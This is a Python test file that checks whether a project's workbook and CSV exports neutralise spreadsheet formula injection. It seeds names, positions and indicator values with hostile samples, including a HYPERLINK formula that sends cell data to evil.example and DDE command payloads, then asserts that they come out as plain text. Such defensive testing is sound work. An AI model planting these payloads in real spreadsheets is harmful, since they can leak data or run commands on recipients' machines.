"""Formula injection: hostile names, positions, indicator values and catalogue cells reach every
workbook and CSV the project writes as text, never as a live formula."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from sqlalchemy import select

from bot.documents.attendance_workbook import build_workbook, summary_workbook
from bot.documents.indicator_workbook import indicator_workbook
from bot.domain.checkin.attendance import attendance_summary
from bot.domain.indicators import assignments as ind
from bot.domain.registration.invite_sheet import invite_lines, qr_zip
from bot.domain.reports.attendance import collect_report
from bot.domain.spreadsheet_cells import FORMULA_TRIGGERS, neutralise_cell
from bot.i18n import translator
from storage import repositories as repo
from storage.indicator_models import Assignment, Indicator
from storage.models import Event, Person
from tests.conftest import NOW
from tests.indicators.conftest import HEADER, csv_bytes, import_rows
from tests.rsvp.helpers import agency_id, make_organiser, make_person, rsvp

pytestmark = pytest.mark.db

LINK = '=HYPERLINK("http://evil.example/?d="&E5&E6,"Xem")'
AGENCY = "=1+1 Sở Độc hại"
HOSTILE = [LINK, "+84-cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]


def test_each_trigger_becomes_text() -> None:
    for value in HOSTILE:
        assert neutralise_cell(value) == "'" + value
    assert neutralise_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert neutralise_cell(-3) == -3 and neutralise_cell(None) is None
    assert neutralise_cell("+84912000004") == "+84912000004" and neutralise_cell("-1,5") == "-1,5"
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def _live(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS) and neutralise_cell(text) != text


def _formulas(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = cell.value if isinstance(cell.value, str) else ""
                if cell.data_type == "f" or _live(text):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


def _texts(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {c.value for s in book.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)}


async def _hostile_event(sessions, make_event) -> int:  # type: ignore[no-untyped-def]
    event_id = await make_event(seats={AGENCY: 3, "Sở Tài chính": 1})
    row = f"=cmd|' /C calc'!A0,Thể chế,,-1+1 chỉ số,@x,%,+src,=ev,{AGENCY},30/11/2026,"
    await import_rows(sessions, event_id, csv_bytes(row, header=HEADER))
    for n, name in enumerate([LINK, "@Trần"]):
        person_id = await make_person(sessions, f"h{n}", name)
        async with sessions() as session, session.begin():
            person = await session.get(Person, person_id)
            person.position, person.phone = HOSTILE[n + 1], "+84912000001"
        await rsvp(sessions, event_id, person_id, AGENCY if n == 0 else "Sở Tài chính")
    focal = await make_person(sessions, "fp", "Đầu Mối")
    organiser = await make_organiser(sessions, event_id)
    async with sessions() as session, session.begin():
        await ind.add_focal_point(session, event_id, focal, await agency_id(session, AGENCY))
        assignment = (await session.execute(select(Assignment).join(Indicator))).scalars().first()
        draft = await ind.start_draft(session, assignment, focal, NOW)
        draft.value = "=2*3"
        await ind.submit_draft(session, draft, focal, NOW)
        await ind.review_submission(
            session, draft, accept=False, reviewer_id=organiser, now=NOW, comment="-thiếu"
        )
    return event_id


async def test_every_export_holds_no_formula(sessions, make_event):
    event_id = await _hostile_event(sessions, make_event)
    t = translator("vi")
    async with sessions() as session, session.begin():
        event = await repo.event_with_details(session, event_id)

        async def indicator_table(s, eid):  # type: ignore[no-untyped-def]
            from bot.documents.indicator_workbook import indicator_status_frame

            return await indicator_status_frame(s, eid, t, NOW)

        data = await collect_report(session, event, indicator_table)
        summary = await attendance_summary(session, event_id)
        indicator_book = await indicator_workbook(session, await session.get(Event, event_id), t, NOW)
        lines = await invite_lines(session, event_id, lambda token: f"https://t.me/x?start={token}")
    report, table = build_workbook(data, t), summary_workbook(summary, t, event.title)
    assert indicator_book is not None
    for book in (report, table, indicator_book):
        assert _formulas(book) == []
    # The hostile text is still there, shown as text.
    assert {"'" + LINK, "'" + AGENCY, "'" + HOSTILE[1]} <= _texts(report)
    assert {"'=2*3", "'-thiếu", "'=cmd|' /C calc'!A0", "'" + AGENCY} <= _texts(indicator_book)
    with zipfile.ZipFile(io.BytesIO(qr_zip(lines))) as archive:
        rows = list(csv.reader(io.StringIO(archive.read("index.csv").decode("utf-8-sig"))))
    assert ["stt", "agency", "seats", "link", "qr_file"] == rows[0]
    assert not any(_live(cell) for row in rows for cell in row)
    assert "'" + AGENCY in {row[1] for row in rows}
